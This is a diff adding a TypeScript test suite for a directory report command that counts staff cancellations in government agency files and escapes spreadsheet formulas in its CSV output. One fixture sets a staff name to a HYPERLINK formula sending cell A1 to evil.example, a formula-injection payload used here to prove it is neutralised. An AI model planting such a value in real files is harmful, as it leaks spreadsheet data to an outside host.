@@ -86,3 +86,47 @@ describe('danhba report (Phụ lục II)', () => {
     await expect(runCommand(reportCommand, ['--from', '2024-07-01', '--to', '2024-06-30'], repo.root)).rejects.toThrow(/after --to/);
   });
 });
+
+describe('danhba report: cancellations counted once, CSV cells that are not formulas', () => {
+  let r2: TestRepo;
+  let out2: string;
+  let rows: string[];
+
+  beforeAll(async () => {
+    r2 = makeRepo();
+    // Revoked before the period: its clean-up inside the period is no new cancellation.
+    r2.edit('agencies/sokhdt.yaml', '    mailbox: lhphuc@cantho.gov.vn\n', '    mailbox: lhphuc@cantho.gov.vn\n    status: { state: revoked, from: 2023-12-01, reason: Nghỉ hưu, reference: QĐ 1/QĐ-SKHĐT }\n');
+    r2.edit('agencies/sokhdt.yaml', 'staff:\n', 'staff:\n  - id: ct-0103\n    name: Đỗ Văn Nam\n    mailbox: dvnam@cantho.gov.vn\n');
+    r2.commit('Khởi tạo', '2023-12-01');
+    // Revoked inside the period, then removed inside it: one cancellation.
+    r2.edit('agencies/sonv.yaml', '    mailbox: nvminh@cantho.gov.vn\n', '    mailbox: nvminh@cantho.gov.vn\n    status: { state: revoked, from: 2024-02-10, reason: Nghỉ việc, reference: QĐ 2/QĐ-SNV }\n');
+    // A name a spreadsheet would run as a formula.
+    r2.edit('agencies/sonv.yaml', 'staff:\n', 'staff:\n  - id: ct-0003\n    name: \'=HYPERLINK("http://evil.example/?"&A1,"Bấm")\'\n    mailbox: vthong@cantho.gov.vn\n');
+    r2.commit('Thu hồi nvminh; tuyển mới', '2024-02-10');
+    r2.edit('agencies/sonv.yaml', '  - id: ct-0001\n    name: Nguyễn Văn Minh\n    title: Giám đốc\n    mailbox: nvminh@cantho.gov.vn\n    status: { state: revoked, from: 2024-02-10, reason: Nghỉ việc, reference: QĐ 2/QĐ-SNV }\n', '');
+    r2.edit('agencies/sokhdt.yaml', '  - id: ct-0101\n    name: Lê Hoàng Phúc\n    title: Giám đốc\n    mailbox: lhphuc@cantho.gov.vn\n    status: { state: revoked, from: 2023-12-01, reason: Nghỉ hưu, reference: QĐ 1/QĐ-SKHĐT }\n', '');
+    // Removed while still active: a cancellation.
+    r2.edit('agencies/sokhdt.yaml', '  - id: ct-0102\n    name: Phạm Thị Mai\n    title: Chuyên viên\n    unit: van-phong\n    mailbox: ptmai@cantho.gov.vn\n', '');
+    r2.commit('Dọn các mục đã thu hồi; Mai nghỉ', '2024-03-10');
+    out2 = mkdtempSync(join(tmpdir(), 'danhba-report-'));
+    const r = await runCommand(reportCommand, ['--from', '2024-01-01', '--to', '2024-06-30', '--province', 'cantho', '--out', out2], r2.root);
+    expect(r.code).toBe(0);
+    rows = readFileSync(join(out2, 'cantho.gov.vn', 'bao-cao-2024-01-01_2024-06-30', 'thay-doi.csv'), 'utf8').trim().split('\r\n');
+  });
+
+  afterAll(() => {
+    r2.cleanup();
+    rmSync(out2, { recursive: true, force: true });
+  });
+
+  it('counts a revocation and the later removal of the same entry as one cancellation', () => {
+    const cancelled = rows.filter((r) => r.split(',')[2] === 'cancelled').map((r) => r.split(',').slice(3, 8).join(' '));
+    expect(cancelled.sort()).toEqual(['2024-02-10 person nvminh@cantho.gov.vn Nguyễn Văn Minh revoked', '2024-03-10 person ptmai@cantho.gov.vn Phạm Thị Mai removed']);
+  });
+
+  it('neutralises formulas in the CSV as the site does', () => {
+    const created = rows.find((r) => r.includes('vthong@'))!;
+    expect(created).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",`);
+    expect(rows.some((r) => /(^|,)"?=/.test(r))).toBe(false);
+  });
+});
